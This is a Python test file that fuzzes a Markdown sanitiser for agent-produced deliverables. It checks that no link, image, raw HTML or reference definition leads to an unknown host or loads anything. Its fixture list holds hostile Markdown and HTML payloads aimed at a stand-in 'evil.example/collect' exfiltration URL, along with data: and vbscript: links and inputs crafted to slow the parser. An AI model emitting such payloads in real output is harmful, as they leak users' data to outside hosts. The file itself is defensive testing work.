"""A Markdown file leads nowhere but to known addresses, and loads nothing, whatever stands in it."""

from __future__ import annotations

import random
import re
from html import unescape
from typing import Final

import pytest
from markdown_it import MarkdownIt

from agents.addresses import same
from agents.rendering.leading import linkable, settled
from agents.stations.deliverable import deliverable
from tests.bot.messages.hostile import ADDRESSES, PARTS

EVIL: Final = "https://evil.example/collect?seen=CANARY"
MORE: Final = [
    f"[a]({EVIL})", f"[a](<{EVIL}>)", f'[a]({EVIL} "t")', f"![a]({EVIL})", f"[![a]({EVIL})]({EVIL})",
    f"[![a]({EVIL})](https://good.example/x)", f"[r]: {EVIL}\n", f"[r]: <{EVIL}> 't'\n", "[see][r]", "[r]", "[r][]", "![r]",
    "![x][r]", f"<{EVIL}>", f"<a href={EVIL}>", f"<img src='{EVIL}'>", "<b>", "</b>", "<!-- hidden -->", "<?x?>", EVIL,
    "www.evil.example/CANARY", "ftp://evil.example/CANARY", f"`{EVIL}`", "``` x\n", "    code\n", f"[a]({EVIL}\n",
    f"[a\n]({EVIL})", f"[a]\n({EVIL})", f"\\[a]({EVIL})", f"[a\\]({EVIL})", "[", "](", ")", "![", "]:", "(", "`", "``", "\\",
    "https://good.example/x", "[ok](https://good.example/x)", "![chart](chart-1.png)", "![x](../p.png)",
    "![x](//evil.example/p)", "data:text/html,x", "[x](data:text/html,CANARY)", "[x](vbscript:x)",
    "[m](mailto:a@evil.example)", "<a@evil.example>", "> ", "- ", "1. ", "\r", "\u2028", "| ", "<",
]  # fmt: skip
_LIVE: Final = re.compile(r"<(?:img|a|script|iframe|video|object|embed|link|form)\b[^>]*>|<!--", re.IGNORECASE)
_TARGET: Final = re.compile(r"(?:src|href)=\"([^\"]*)\"", re.IGNORECASE)
_CODE: Final = re.compile(r"<code\b[^>]*>.*?</code>", re.DOTALL)
_LABEL: Final = re.compile(r"<a\b[^>]*>.*?</a>", re.DOTALL)


def alive(markdown: str) -> list[str]:
    """Return what a reader of Markdown with HTML would load, and where it would lead, but for what is known."""
    html = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown)
    found = []
    for tag in (match[0] for match in _LIVE.finditer(html)):
        targets = [unescape(target) for target in _TARGET.findall(tag)]
        harmless = tag.startswith("<a ") and all(same(target) in ADDRESSES for target in targets)
        local = tag.startswith("<img ") and targets == ["chart-1.png"]
        found += [] if harmless or local else [tag]
    bare = re.sub(r"<[^>]+>", " ", _LABEL.sub(" ", _CODE.sub(" ", html)))
    return [*found, *(one for one in linkable(unescape(bare)) if same(one) not in ADDRESSES)]


@pytest.mark.parametrize("count", [pytest.param(500, id="some"), pytest.param(10_000, id="all", marks=pytest.mark.long)])
def test_nothing_in_a_file_leads_where_nobody_has_been_or_loads_anything(count: int):
    chance = random.Random(20_261_122)
    changed = 0
    for _ in range(count):
        text = "".join(chance.choice(chance.choice([PARTS, MORE])) for _ in range(chance.randint(1, 14)))
        shown = settled(text, ADDRESSES)
        changed += shown != text

        assert alive(shown) == [], text
        assert settled(shown, ADDRESSES) == shown

    assert changed > count // 3


def test_what_leads_nowhere_else_stays_to_the_byte():
    said = "5 < 6 and [ok](https://good.example/x) [F3], <!channel>, `code <b>`."
    text = f"# A\n\n{said}\n\n![c](chart-1.png)\n\n```\n<img src=x>\n```\n"

    assert settled(text, ADDRESSES) == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (f"[bank.com]({EVIL})", f"bank.com (`{EVIL}`)"),
        (f"see {EVIL}.", f"see `{EVIL}`."),
        (f"![the chart]({EVIL})", f"(picture left out: the chart (`{EVIL}`))"),
        (f"[r]: {EVIL}\n\n[see][r]", f"\\[r]: `{EVIL}`\n\n[see][r]"),
        ("a <img src=x> b", "a \\<img src=x> b"),
        (f"```\n{EVIL}\n```\n{EVIL}", f"```\n{EVIL}\n```\n`{EVIL}`"),
    ],
)
def test_an_address_nobody_has_been_at_is_shown_and_dead(written: str, shown: str):
    assert settled(written, ADDRESSES) == shown


def test_a_text_made_to_take_long_does_not():
    for mark in ("[", "![", "`", "](", "<", "[a](", "(", "https://a.b", "[x]: y\n", "\\"):
        settled(mark * 600 + EVIL, ADDRESSES)


def test_a_delivered_file_leads_only_where_the_run_has_been_quotes_and_questions_included():
    finding = {"id": "F101", "quote": f"![x]({EVIL})", "label": "a.pdf, page 2"}
    text, asked = f"[click]({EVIL}) [F101] and [ok](https://good.example/x)", f"Is <{EVIL}> right?"
    made = deliverable(text, [finding], left_open=[asked], addresses=ADDRESSES)

    assert alive(made.markdown()) == []
    assert "[ok](https://good.example/x)" in made.markdown()
